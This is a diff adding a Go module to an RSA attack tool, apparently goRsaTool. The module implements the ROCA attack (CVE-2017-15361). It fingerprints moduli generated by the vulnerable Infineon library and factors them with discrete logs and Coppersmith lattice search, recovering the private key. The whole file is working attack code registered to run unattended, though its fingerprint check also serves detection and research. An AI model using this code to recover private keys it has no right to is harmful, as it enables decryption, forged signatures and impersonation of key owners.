@@ -0,0 +1,283 @@
+// Package roca detects and factors moduli generated by the Infineon RSALib which are vulnerable
+// to ROCA (CVE-2017-15361). The library generates primes of the form p = k * M + (65537^a mod M)
+// where M is the product of the first few primes, so N mod r is a power of 65537 for every small
+// prime r which fingerprints the keys. To factor n we follow Nemec et al: a divisor M' of M where
+// 65537 has a small order is chosen, a' = a mod ord(65537) is guessed and Coppersmith's method
+// finds the small k' of p = k' * M' + (65537^a' mod M').
+// See: https://crocs.fi.muni.cz/public/papers/rsa_ccs17
+package roca
+
+import (
+	"context"
+	"log"
+	"sync"
+	"time"
+
+	"github.com/sourcekris/goRsaTool/attacks"
+	"github.com/sourcekris/goRsaTool/keys"
+	"github.com/sourcekris/goRsaTool/ln"
+
+	fmp "github.com/sourcekris/goflint"
+)
+
+// name is the name of this attack.
+const name = "roca"
+
+func init() {
+	attacks.SupportedAttacks.Register(&attacks.Attack{
+		Name:       "roca",
+		Unnatended: true,
+		Timeout:    timeout,
+		Cost:       attacks.CostSlow,
+		Requires:   attacks.Requirements{MinBits: minBits, MaxBits: maxBits},
+		F:          Attack,
+	})
+}
+
+// timeout is long enough to try every guess of a' for a 512 bit key on a few cores, the worst
+// case in the paper is about two CPU hours. Keys without the fingerprint are rejected at once so
+// the long timeout only applies to vulnerable keys. 1024 bit keys need CPU months.
+const timeout = 6 * time.Hour
+
+// generator is the element whose powers give the primes of vulnerable keys modulo M.
+const generator = 65537
+
+// fingerprintPrimes are the primes modulo which N is tested for being a power of the generator.
+var fingerprintPrimes = []int64{
+	3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53, 59, 61, 67, 71, 73, 79, 83, 89, 97,
+	101, 103, 107, 109, 113, 127, 131, 137, 139, 149, 151, 157, 163, 167,
+}
+
+// params are the parameters of the factorization from the paper for keys up to maxBits in size.
+// mPrime is the divisor of M to work modulo and m, t set the size of the Coppersmith lattice.
+type params struct {
+	maxBits int
+	mPrime  string
+	m, t    int
+}
+
+const (
+	// minBits and maxBits bound the key sizes we have parameters for.
+	minBits = 504
+	maxBits = 1952
+)
+
+var supported = []params{
+	{maxBits: 960, mPrime: "1b3e6c9433a7735fa5fc479ffe4027e13bea", m: 5, t: 6},
+	{maxBits: maxBits, mPrime: "24683144f41188c2b1d6a217f81f12888e4e6513c43f3f60e72af8bd9728807483425d1e", m: 4, t: 5},
+}
+
+// dlog returns the discrete logarithm of x to the base generator modulo the small prime r and the
+// order of the generator or false if x is not a power of the generator.
+func dlog(x, r int64) (int64, int64, bool) {
+	var (
+		g   = generator % r
+		y   = int64(1)
+		l   = int64(-1)
+		ord int64
+	)
+
+	x %= r
+	for {
+		if y == x && l < 0 {
+			l = ord
+		}
+
+		ord++
+		if y = y * g % r; y == 1 {
+			break
+		}
+	}
+
+	return l, ord, l >= 0
+}
+
+// IsVulnerable returns true if n has the fingerprint of a modulus generated by the vulnerable
+// Infineon library, n mod r is a power of 65537 for every small prime r. A random modulus has
+// the fingerprint with a negligible probability.
+func IsVulnerable(n *fmp.Fmpz) bool {
+	for _, r := range fingerprintPrimes {
+		if _, _, ok := dlog(new(fmp.Fmpz).Mod(n, fmp.NewFmpz(r)).Int64(), r); !ok {
+			return false
+		}
+	}
+
+	return true
+}
+
+// crt returns x with x = a1 mod m1 and x = a2 mod m2 for moduli that need not be coprime and
+// their lcm or false if there is no solution.
+func crt(a1, m1, a2, m2 int64) (int64, int64, bool) {
+	g := gcd(m1, m2)
+	if (a2-a1)%g != 0 {
+		return 0, 0, false
+	}
+
+	var (
+		l = m1 / g * m2
+		u = new(fmp.Fmpz).ModInverse(fmp.NewFmpz(m1/g), fmp.NewFmpz(m2/g)).Int64()
+		t = (a2 - a1) / g % (m2 / g) * u % (m2 / g)
+		x = (a1 + m1*t) % l
+	)
+
+	return (x + l) % l, l, true
+}
+
+func gcd(a, b int64) int64 {
+	for b != 0 {
+		a, b = b, a%b
+	}
+
+	return a
+}
+
+// discreteLog returns c with n = 65537^c mod mPrime and the order of 65537 modulo mPrime, or false
+// if there is no such c. mPrime is squarefree and smooth so the logarithm modulo each of its
+// primes is combined with the CRT.
+func discreteLog(n, mPrime *fmp.Fmpz) (int64, int64, bool) {
+	var (
+		c, ord = int64(0), int64(1)
+		rest   = new(fmp.Fmpz).Set(mPrime)
+	)
+
+	for r := int64(2); !rest.Equals(ln.BigOne); r++ {
+		fr := fmp.NewFmpz(r)
+		if !new(fmp.Fmpz).Mod(rest, fr).IsZero() {
+			continue
+		}
+
+		rest.Div(rest, fr)
+
+		l, o, ok := dlog(new(fmp.Fmpz).Mod(n, fr).Int64(), r)
+		if !ok {
+			return 0, 0, false
+		}
+
+		if c, ord, ok = crt(c, ord, l, o); !ok {
+			return 0, 0, false
+		}
+	}
+
+	return c, ord, true
+}
+
+// search returns a factor of n by guessing a' from start to end and looking for a small root k'
+// of k' * M' + (65537^a' mod M') modulo p, or nil if none of the guesses are right. The guesses
+// are shared out between workers goroutines.
+func search(ctx context.Context, n, mPrime *fmp.Fmpz, pm params, start, end int64, workers int) *fmp.Fmpz {
+	if g := int(end - start + 1); g < workers {
+		workers = g
+	}
+
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var (
+		wg  sync.WaitGroup
+		res = make(chan *fmp.Fmpz, workers)
+	)
+
+	for i := 0; i < workers; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			if p := searchFrom(ctx, n, mPrime, pm, start+int64(i), end, int64(workers)); p != nil {
+				res <- p
+				cancel()
+			}
+		}(i)
+	}
+
+	wg.Wait()
+	close(res)
+
+	return <-res
+}
+
+// searchFrom tries every step'th guess of a' from start to end.
+func searchFrom(ctx context.Context, n, mPrime *fmp.Fmpz, pm params, start, end, step int64) *fmp.Fmpz {
+	var (
+		g    = fmp.NewFmpz(generator)
+		gs   = new(fmp.Fmpz).Exp(g, fmp.NewFmpz(step), mPrime)
+		mInv = new(fmp.Fmpz).ModInverse(mPrime, n)
+		ga   = new(fmp.Fmpz).Exp(g, fmp.NewFmpz(start), mPrime)
+		x    = fmp.NewFmpz(1).Lsh(n.BitLen()/2 + 1)
+	)
+
+	x.Div(x, mPrime)
+
+	for a := start; a <= end; a += step {
+		if ctx.Err() != nil {
+			return nil
+		}
+
+		// f(k') = k' + M'^-1 * (65537^a' mod M') is p / M' at the root.
+		f := new(fmp.FmpzPoly).SetCoeffUI(1, 1)
+		f.SetCoeff(0, new(fmp.Fmpz).Mul(mInv, ga).ModZ(n))
+
+		roots, err := ln.SmallRoots(f, n, ln.SmallRootsParams{Beta: 0.5, X: x, M: pm.m, T: pm.t})
+		if err != nil {
+			return nil
+		}
+
+		for _, r := range roots {
+			p := new(fmp.Fmpz).Mul(r, mPrime)
+			p.Add(p, ga)
+			if p.Cmp(ln.BigOne) > 0 && p.Cmp(n) < 0 && new(fmp.Fmpz).Mod(n, p).IsZero() {
+				return p
+			}
+		}
+
+		ga.Mul(ga, gs).ModZ(mPrime)
+	}
+
+	return nil
+}
+
+// Attack implements the ROCA factorization for keys with the fingerprint.
+func Attack(ctx context.Context, ks []*keys.RSA) *attacks.Result {
+	k := ks[0]
+	if k.Key.D != nil {
+		return attacks.Solved(k)
+	}
+
+	n := k.Key.N
+	if !IsVulnerable(n) {
+		return attacks.NotApplicable("%s attack failed - the modulus does not have the ROCA fingerprint", name)
+	}
+
+	var pm *params
+	for i := range supported {
+		if n.BitLen() <= supported[i].maxBits {
+			pm = &supported[i]
+			break
+		}
+	}
+
+	if pm == nil || n.BitLen() < minBits {
+		return attacks.NotApplicable("%s attack has no parameters for %d bit keys", name, n.BitLen())
+	}
+
+	mPrime, _ := new(fmp.Fmpz).SetString(pm.mPrime, 16)
+	c, ord, ok := discreteLog(n, mPrime)
+	if !ok {
+		return attacks.NotApplicable("%s attack failed - n is not a power of 65537 modulo M'", name)
+	}
+
+	// c = a + b for the exponents of p and q so one of them is in [c / 2, (c + ord) / 2].
+	if k.Verbose {
+		log.Printf("%s: key is vulnerable, trying %d guesses of a' with %d workers", name, ord/2+1, k.NumWorkers())
+	}
+
+	p := search(ctx, n, mPrime, *pm, c/2, (c+ord)/2, k.NumWorkers())
+	if ctx.Err() != nil {
+		return attacks.Stopped(ctx.Err())
+	}
+
+	if p == nil {
+		return attacks.Failed("%s attack failed to factor the key", name)
+	}
+
+	k.PackGivenP(p)
+	return attacks.Solved(k)
+}